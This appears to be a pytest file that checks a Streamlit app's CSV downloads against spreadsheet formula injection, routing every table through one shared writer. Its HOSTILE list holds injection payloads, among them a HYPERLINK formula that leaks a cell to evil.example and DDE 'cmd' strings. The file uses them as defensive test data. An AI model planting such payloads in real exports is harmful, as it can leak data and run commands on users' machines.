"""Tables leave the app only as formula-safe CSV, through the one shared writer.

A hostile area name or report text (``=HYPERLINK(…)``, ``+cmd|…``, ``@SUM(…)``) is put
where the Map, Trends, Moderation and Submit pages show it; the CSV each page's download
button hands out is read back as a spreadsheet would. Streamlit's own table toolbar
download, which writes cells verbatim, is checked in a real browser (test_browser.py).
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import streamlit

from data_sources.cache import Cache
from reports.submissions import submit_report
from settings import PROJECT_ROOT
from tests import test_map, test_submit_page, test_trends_page
from tests.fixtures.reports.helpers import report, tiny_directory
from tests.test_downloads_page import HARTLEPOOL
from tests.test_submit_page import signed_in

people = test_submit_page.people  # a tmp report store and tiny cache, signed-in helpers

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Hartlepool")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
TABLE_FILES = ("views", "ui", "app.py", "dashboard.py")
"""Where the app's pages and their Streamlit edge live."""
OTHER_DOWNLOADS = {"ui/table_download.py": "the shared table download",
                   "ui/profile_view.py": "the area profile as PDF and HTML documents",
                   "ui/custom_area_view.py": "a service area's profile as PDF and HTML",
                   "ui/downloads.py": "the export zip, written by indicators.export"}


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """What each download button of a run would hand out, by label (built as on a click)."""
    handed_out: dict[str, bytes] = {}
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        handed_out[label] = data() if callable(data) else data
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    return handed_out


def cells(content: bytes) -> list[list[str]]:
    """The cells of a CSV file as a spreadsheet reads them (UTF-8 with a byte order mark)."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_formula(content: bytes, expected: list[str]) -> None:
    found = [cell for row in cells(content) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@")) or _number(cell) for cell in found)
    for text in expected:
        assert "'" + text in found, (text, found)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def rename(cache: Cache, dataset: str, names: dict[str, str], code: str = "area_code",
           name: str = "area_name") -> None:
    """Give areas of a cached table hostile names, as a tampered publisher file would."""
    table = cache.load_table(dataset)
    table[name] = table[code].map(names).fillna(table[name])
    cache.store_table(table, cache.provenance(dataset))


def test_the_shared_writer_neutralises_every_formula_start_and_keeps_numbers():
    from indicators.writers import csv_bytes

    table = pd.DataFrame({"text": [*HOSTILE, "\uff1dSUM(A1)", "\tcmd", "-3.5", "<5", None],
                          "n": [1, -2, 3, 4, 5, 6, 7, 8, 9]})
    rows = cells(csv_bytes(table))
    assert rows[0] == ["text", "n"]
    assert [row[0] for row in rows[1:]] == ["'" + h for h in HOSTILE] + [
        "'\uff1dSUM(A1)", "'\tcmd", "-3.5", "<5", ""]
    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "4", "5", "6", "7", "8", "9"]


def test_the_map_table_download_neutralises_a_hostile_area_name(monkeypatch, tmp_path,
                                                                downloads):
    test_map.build_cache(tmp_path)
    cache = Cache(tmp_path)
    names = {"E06000001": HOSTILE[0], "E06000002": HOSTILE[1]}
    rename(cache, "joined_area_indicator", names)
    monkeypatch.setenv("GRA_CACHE_DIR", str(tmp_path))
    app = test_map.start()
    assert HOSTILE[0] in app.dataframe[0].value["Area"].tolist()  # shown as typed on screen
    assert_no_formula(downloads["Download this table (CSV)"], HOSTILE[:2])


def test_the_trends_chart_data_download_neutralises_a_hostile_area_name(
        monkeypatch, tmp_path, downloads):
    cache = test_trends_page.build_cache_with_months(tmp_path)
    for lookup in ("lookup_lad22_region", "lookup_lsoa21_msoa21_lad22"):
        rename(cache, lookup, {HARTLEPOOL: HOSTILE[2]}, "lad22_code", "lad22_name")
    app = test_trends_page.run_page(monkeypatch, tmp_path, area=HARTLEPOOL, level="lad")
    assert app.get("download_button")
    assert_no_formula(downloads["Download this chart's data (CSV)"], [HOSTILE[2]])


def test_the_queue_and_your_reports_download_neutralised(people, downloads):
    store, actors = people
    for text in HOSTILE:
        submit_report(store, actors["thames"], report(description=text, source=text[:200]),
                      directory=tiny_directory())
    queue = signed_in(str(PROJECT_ROOT / "views" / "moderation.py"), "mod@alliance.example")
    assert not queue.exception
    assert_no_formula(downloads["Download the queue (CSV)"], HOSTILE)
    own = signed_in(str(PROJECT_ROOT / "views" / "submit.py"), "ana@thamesbury.example")
    assert not own.exception
    assert_no_formula(downloads["Download your organisation's reports (CSV)"], HOSTILE)


def _files() -> list[Path]:
    found = []
    for name in TABLE_FILES:
        path = PROJECT_ROOT / name
        found += sorted(path.rglob("*.py")) if path.is_dir() else [path]
    return found


def test_every_table_leaves_through_the_shared_writer():
    """No page or edge module writes a table itself or offers a download of its own."""
    offenders = []
    for path in _files():
        relative = path.relative_to(PROJECT_ROOT).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            name = node.func.attr
            if name in ("to_csv", "to_excel", "to_json", "to_clipboard") or (
                    name == "download_button" and relative not in OTHER_DOWNLOADS):
                offenders.append(f"{relative}:{node.lineno} {name}")
    assert offenders == [], offenders
